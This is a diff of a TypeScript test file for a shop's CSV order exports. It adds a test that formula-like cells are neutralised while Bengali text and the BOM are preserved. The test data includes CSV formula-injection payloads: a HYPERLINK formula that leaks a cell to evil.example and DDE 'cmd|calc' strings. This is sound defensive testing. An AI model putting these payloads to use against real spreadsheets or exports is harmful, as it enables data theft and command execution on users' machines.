@@ -2,39 +2,10 @@ import { sql } from 'drizzle-orm';
 import { rowsOf } from '../../src/db/database';
 import { orderExportBatches, stockExportBatches } from '../../src/repositories/exports';
 import { drivers, shopForTests } from '../helpers/build';
+import { evaluatedCells, parseCsv } from '../helpers/csv';
 import { placeOrder } from '../helpers/orders';
 
 const BOM = '\uFEFF';
-
-/** A CSV text as rows of fields (RFC 4180: quoted fields may hold commas, quotes and newlines). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\n' || ch === '\r') {
-      if (ch === '\r' && text[i + 1] === '\n') i++;
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-    } else field += ch;
-  }
-  if (field !== '' || row.length > 0) rows.push([...row, field]);
-  return rows;
-}
 
 const records = (text: string) => {
   const [header, ...rows] = parseCsv(text.slice(BOM.length));
@@ -99,6 +70,45 @@ describe.each(drivers)('CSV exports on %s', (driver) => {
     expect(
       (await t.app.inject({ method: 'GET', url: '/api/backoffice/exports/orders.csv' })).statusCode,
     ).toBe(401);
+  });
+
+  it('neutralises every cell and line a spreadsheet would evaluate as a formula, keeping Bengali and the BOM', async () => {
+    const item = await c.addStock({ product_code: 'FORMULA-1', product_name: '=cmd|calc!A0' });
+    // Each a name or an address as a shopper may send them; tab and line breaks only in addresses.
+    const hostile = [
+      { customer_name: '=HYPERLINK("http://evil.example/?"&A1,"c")', customer_address: 'Dhaka' },
+      { customer_name: "+cmd|' /C calc'!A0", customer_address: '@SUM(1,2)' },
+      { customer_name: '-1+1', customer_address: 'Road 4,\n=1+1\r\n+2\r@3' },
+      { customer_name: '@SUM(A1:A9)', customer_address: 'Road 5,\n\t=1+1\n  -2+3' },
+      { customer_name: 'ফর্মুলা =1+1', customer_address: 'বাড়ি ৭,\n=ঢাকা' },
+    ];
+    for (const shopper of hostile) {
+      const placed = await placeOrder(t.app, {
+        ...shopper,
+        customer_phone: '01900000007',
+        shipping_id: 1,
+        lines: [{ id_transaction: item, quantity: 1 }],
+      });
+      expect(placed.statusCode).toBe(200);
+    }
+    const reply = await get('/api/backoffice/exports/orders.csv?customer=01900000007');
+    expect(reply.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    // A spreadsheet evaluates a cell, or (a program splitting lines) a line of one, that starts so.
+    const evaluated = evaluatedCells(reply.body);
+    expect(evaluated).toEqual([]);
+    const rows = records(reply.body);
+    expect(rows.map((r) => [r.customer_name, r.customer_address, r.product_name])).toEqual(
+      [...hostile]
+        .reverse()
+        .map((shopper) => [
+          shopper.customer_name.replace(/^(?=\s*[=+\-@])/, "'"),
+          shopper.customer_address.replace(/(^|\r\n|\r|\n)(?=\s*[=+\-@\t])/g, "$1'"),
+          "'=cmd|calc!A0",
+        ]),
+    );
+    // Ordinary text, Bengali included, and numbers are left as they are.
+    expect(rows[0]).toMatchObject({ customer_name: 'ফর্মুলা =1+1', customer_phone: '01900000007' });
+    expect(rows[0]?.total).toBe(String(Number(rows[0]?.subtotal) + Number(rows[0]?.delivery_fee)));
   });
 
   it('exports the stock table’s filter as CSV, newest first, with days added in the file name', async () => {
